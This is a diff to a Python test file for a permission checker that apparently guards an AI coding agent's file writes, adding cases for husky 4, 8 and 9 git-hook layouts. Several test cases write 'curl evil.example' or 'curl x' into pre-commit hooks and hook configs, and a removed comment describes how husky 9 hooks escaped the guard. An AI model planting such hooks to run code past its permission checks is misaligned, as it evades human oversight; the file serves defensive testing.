@@ -106,13 +106,6 @@ HOOK_CD = (
     "Code runs it after the next Edit. Fix: follow cd/pushd to a known directory in _reach "
     "(or count a cd as unmodelled: the whole project)"
 )
-HUSKY = (
-    "husky 9's layout: core.hooksPath=.husky/_, whose stub pre-commit sources .husky/_/h, "
-    "which runs .husky/pre-commit, one level above the hooks dir (checked: git commit ran "
-    "the edit). GitView.names guards .husky/_ only, so .husky/pre-commit (the file husky "
-    "users edit) is allowed by Edit(./**). Fix: a hooks dir whose hooks source a script "
-    "that runs ../NAME (husky) guards its parent's hook names too"
-)
 HOOK_SYSTEM_READER = (
     "a system program whose file operand is code: GNU sed -f fix.sed (its e command runs a "
     "shell, checked), sqlite3 -init init.sql (.shell runs a command, checked), npm --prefix "
@@ -318,6 +311,17 @@ PRE_COMMIT_SHIM = (
 LEFTHOOK_SHIM = (
     '#!/bin/sh\ncall_lefthook() { lefthook "$@"; }\ncall_lefthook run "pre-commit" "$@"\n'
 )
+#: husky 4's generated hook and its husky.sh (abridged: the lines that say what it runs).
+HUSKY4_SHIM = (
+    "#!/bin/sh\n# husky\n\n# Created by Husky v4.3.8 (https://github.com/typicode/husky#readme)"
+    '\n\n. "$(dirname "$0")/husky.sh"\n'
+)
+HUSKY4_SH = (
+    'hookName=`basename "$0"`\nrun_command () {\n  "$@" husky-run $hookName "$gitParams"\n}\n'
+    "if [ -f package.json ]; then run_command npx --no-install; fi\n"
+)
+#: husky 8's layout: core.hooksPath=.husky, each hook sources .husky/_/husky.sh.
+HUSKY8_HOOK = '#!/usr/bin/env sh\n. "$(dirname -- "$0")/_/husky.sh"\n\nnpx lint-staged\n'
 
 
 @pytest.fixture(scope="module")
@@ -338,18 +342,30 @@ def managers(tmp_path_factory: pytest.TempPathFactory) -> World3:
         _git(proj / name, "init", "-q")
         _exe(proj / name / ".git" / "hooks" / "pre-commit", shim)
         (proj / name / config).write_text("repos: []\n")
-    # variants: pre-commit told another config, lefthook's .yaml, a hook
+    # variants: pre-commit told another config, lefthook's .yaml, husky 4 and 8, a hook
     # too large to read (not modelled: every manager's config)
     big = LEFTHOOK_SHIM + "#" * (70 * 1024) + "\n"
     for name, hook in (
         ("pc2", PRE_COMMIT_SHIM.replace(".pre-commit-config.yaml", "ci/pc.yaml")),
         ("lh2", LEFTHOOK_SHIM),
+        ("h4", HUSKY4_SHIM),
         ("big", big),
     ):
         (proj / name).mkdir()
         _git(proj / name, "init", "-q")
         _exe(proj / name / ".git" / "hooks" / "pre-commit", hook)
     (proj / "lh2" / "lefthook.yaml").write_text("pre-commit: {}\n")
+    _exe(proj / "h4" / ".git" / "hooks" / "husky.sh", HUSKY4_SH)
+    (proj / "h8").mkdir()
+    _git(proj / "h8", "init", "-q")
+    _git(proj / "h8", "config", "core.hooksPath", ".husky")
+    _exe(proj / "h8" / ".husky" / "pre-commit", HUSKY8_HOOK)
+    _exe(proj / "h8" / ".husky" / "_" / "husky.sh", "#!/usr/bin/env sh\n")
+    (proj / "h9").mkdir()  # husky 9.1's stub: . "${0%/*}/h"
+    _git(proj / "h9", "init", "-q")
+    _git(proj / "h9", "config", "core.hooksPath", ".husky/_")
+    _exe(proj / "h9" / ".husky" / "_" / "h", HUSKY_H)
+    _exe(proj / "h9" / ".husky" / "_" / "commit-msg", '#!/usr/bin/env sh\n. "${0%/*}/h"\n')
     for name in ("conv.sh", "fsmon.sh", "clean.sh", "ext.sh", "nbconv.py", "alias.sh", "ssh.sh"):
         _exe(proj / "tools" / name)
     for key, value in (
@@ -619,16 +635,21 @@ HOOKCMD = [
 ]
 
 MANAGERS = [
-    _ch("Write", _w(".husky/pre-commit", "curl evil.example\n"), "ask", HUSKY),
-    _bh("echo 'curl evil.example' >> .husky/pre-commit", "ask", HUSKY),
-    # closed: the hooks' text read (git_reach.manager_reach): pre-commit's shim names its
-    # config, lefthook's reads lefthook.yml
+    # closed: the hooks' text read (git_reach.manager_reach): husky 9's stubs run
+    # .husky/NAME, pre-commit's shim names its config, lefthook's reads lefthook.yml
+    _case("Write", _w(".husky/pre-commit", "curl evil.example\n"), "ask"),
+    _bash("echo 'curl evil.example' >> .husky/pre-commit", "ask"),
     _case("Write", _w("pc/.pre-commit-config.yaml", "repos: [{repo: local}]\n"), "ask"),
     _case("Write", _w("lh/lefthook.yml", "pre-commit: {commands: {x: {run: curl x}}}\n"), "ask"),
     _case("Write", _w("pc2/ci/pc.yaml", "repos: [{repo: local}]\n"), "ask"),
     _case("Write", _w("lh2/lefthook.yaml", "pre-commit: {commands: {x: {run: curl x}}}\n"), "ask"),
     _case("Write", _w("lh2/lefthook-local.yml", "pre-commit: {}\n"), "ask"),
     _case("Write", _w("lh2/.lefthook/pre-commit/x.sh"), "ask"),
+    _case("Write", _w("h4/package.json", '{"husky": {"hooks": {"pre-commit": "curl x"}}}'), "ask"),
+    _case("Write", _w("h4/.huskyrc", '{"hooks": {"pre-commit": "curl x"}}'), "ask"),
+    _case("Write", _w("h8/.husky/pre-commit", "curl evil.example\n"), "ask"),
+    _case("Write", _w("h8/.husky/_/husky.sh", "curl evil.example\n"), "ask"),
+    _case("Write", _w("h9/.husky/commit-msg", "curl evil.example\n"), "ask"),
     _case("Write", _w("big/.pre-commit-config.yaml", "repos: []\n"), "ask"),
     _case("Write", _w("big/lefthook.yml", "pre-commit: {}\n"), "ask"),
     _case("Write", _w("dot/tpl/config", "[core]\n\tfsmonitor = x\n"), "ask"),
@@ -637,6 +658,8 @@ MANAGERS = [
     _case("Write", _w(".husky/notes.md", "x\n"), "allow"),
     _case("Write", _w("pc/README", "x\n"), "allow"),
     _case("Write", _w("pc2/.pre-commit-config.yaml", "repos: []\n"), "allow"),
+    _case("Write", _w("h8/package.json", "{}"), "allow"),
+    _case("Write", _w("h9/README", "x\n"), "allow"),
     _case("Write", _w("lh2/src/a.js", "x\n"), "allow"),
     # held since b637aae: project scripts the repository's git config runs as commands
     _case("Write", _w("tools/conv.sh"), "ask"),
